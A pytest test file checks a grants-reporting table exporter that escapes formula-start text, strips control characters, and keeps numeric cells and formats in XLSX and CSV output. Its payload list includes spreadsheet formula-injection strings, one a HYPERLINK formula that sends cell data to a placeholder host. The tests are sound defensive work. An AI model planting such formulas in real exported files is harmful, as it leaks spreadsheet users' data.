"""The one table writer: text cells cannot become formulas or carry control characters, numbers
stay numeric cells with their formats, columns fit their content, the header row is frozen."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from grants.reports.tables import (
    AMOUNT,
    COUNT,
    HOURS,
    INTEGER,
    POINTS,
    Table,
    column_widths,
    to_csv,
    to_workbook,
    to_xlsx,
)
from grants.text import has_control_characters, spreadsheet_text, strip_control_characters

PAYLOADS = ['=HYPERLINK("http://x"&B2,"y")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _table() -> Table:
    rows = [[i + 1, payload, Decimal("3800.00"), Decimal("85.33")] for i, payload in enumerate(PAYLOADS)]
    rows.append([99, "标题\x1b[31m红色\x07", Decimal("-12.50"), ""])
    return Table(
        title="=名单[1]",
        headers=["序号", "项目名称", "核定金额（元）", "得分"],
        rows=rows,
        formats={0: INTEGER, 2: AMOUNT, 3: POINTS},
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_spreadsheet_text_neutralises_each_formula_start(payload):
    assert spreadsheet_text(payload) == "'" + payload
    assert spreadsheet_text("普通标题 = 好") == "普通标题 = 好"


def test_control_characters_are_found_and_stripped_but_newline_and_tab_stay():
    assert has_control_characters("a\x1bb") and has_control_characters("\x00") and has_control_characters("\x85")
    assert not has_control_characters("第一行\r\n第二行\t完")
    assert strip_control_characters("a\x1b[31mb\x7f\n") == "a[31mb\n"


def test_xlsx_has_no_formula_and_numbers_stay_numeric():
    book = load_workbook(io.BytesIO(to_xlsx(_table())))
    sheet = book.active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["序号", "项目名称", "核定金额（元）", "得分"]
    for row in rows[1:]:
        number, title, amount, score = row
        assert title.data_type == "s" and not title.value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert number.data_type == "n" and amount.data_type == "n" and amount.number_format == AMOUNT
        assert score.value is None or (score.data_type == "n" and score.number_format == POINTS)
    # XML reads a carriage return back as a newline.
    assert [row[1].value for row in rows[1:-1]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert rows[-1][1].value == "标题[31m红色" and rows[-1][2].value == Decimal("-12.50")
    assert all(c.data_type != "f" for row in rows for c in row)
    assert sheet.freeze_panes == "A2"
    assert sheet.title == "'=名单_1_"


def test_csv_neutralises_text_and_writes_plain_numbers():
    text = to_csv(_table()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["序号", "项目名称", "核定金额（元）", "得分"]
    assert [r[1] for r in rows[1:-1]] == ["'" + p for p in PAYLOADS]
    assert rows[1][0] == "1" and rows[1][2] == "3800.00" and rows[1][3] == "85.33"
    assert rows[-1][2] == "-12.50"  # a genuine negative number stays a number
    assert "\x1b" not in text and "\x07" not in text


def test_column_widths_fit_the_longest_cell_counting_cjk_twice():
    table = Table("t", ["名称", "金额"], [["一二三四五六七八九十", Decimal("1234567.5")]], formats={1: AMOUNT})
    widths = column_widths(table)
    assert widths == [22, len("1,234,567.50") + 2]
    book = load_workbook(io.BytesIO(to_xlsx(table)))
    assert book.active.column_dimensions["A"].width == 22


def test_a_workbook_has_one_sheet_per_table_each_with_the_same_safe_cells():
    sheets = [
        _table(),
        Table("资金[二]", ["届次", "已支出（元）"], [["第一届", Decimal("12.50")]], formats={1: AMOUNT}),
        Table("资金[二]", ["指标", "人次", "小时"], [["=1+1", 12345, Decimal("12.5")]], formats={1: COUNT, 2: HOURS}),
    ]
    book = load_workbook(io.BytesIO(to_workbook(sheets)))
    assert book.sheetnames == ["'=名单_1_", "资金_二_", "资金_二__2"]  # valid, and unique
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    money, served = book.worksheets[1], book.worksheets[2]
    assert money["B2"].value == Decimal("12.50") and money["B2"].number_format == AMOUNT
    assert served["A2"].value == "'=1+1" and served["A2"].data_type == "s"
    assert served["B2"].value == 12345 and served["B2"].number_format == COUNT
    assert served["C2"].value == Decimal("12.5") and served["C2"].number_format == HOURS
    assert book.worksheets[0]["C2"].number_format == AMOUNT and book.worksheets[0]["D2"].number_format == POINTS
    assert money.column_dimensions["A"].width == len("第一届") * 2 + 2
